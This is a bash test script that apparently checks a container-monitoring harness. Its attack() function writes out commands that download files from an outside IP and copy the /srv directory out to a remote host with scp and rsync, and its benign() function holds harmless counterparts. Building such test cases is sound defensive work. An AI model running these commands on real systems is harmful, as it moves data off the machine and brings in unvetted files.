#!/usr/bin/env bash
# A file is fetched into a container and others are sent out of it; rsync, scp and curl are stand-ins
# that do nothing.
. "$(dirname "$0")/../lib/harness.sh"

build() {
    local name
    for name in rsync scp curl; do compile "$name" "$lib/client.c"; done
    image api:2.1 api 8080 rsync scp curl
    answer 80
}
prepare() {
    container api api:2.1
    link api
}

attack() {
    docker exec api wget -q -O /tmp/tool http://203.0.113.10/tool
    docker exec api curl -sLo /tmp/other http://203.0.113.10/other
    docker exec api scp -r /srv backup@203.0.113.10:/srv/in
    docker exec api rsync -a /srv/ backup@203.0.113.10:/srv/in
}

# A copy within the container, and requests whose answer nobody keeps.
benign() {
    docker exec api cp -r /srv /tmp/srv
    docker exec api wget -q -O /dev/null http://203.0.113.10/tool
    docker exec api curl -s http://203.0.113.10/tool
}

record_container api
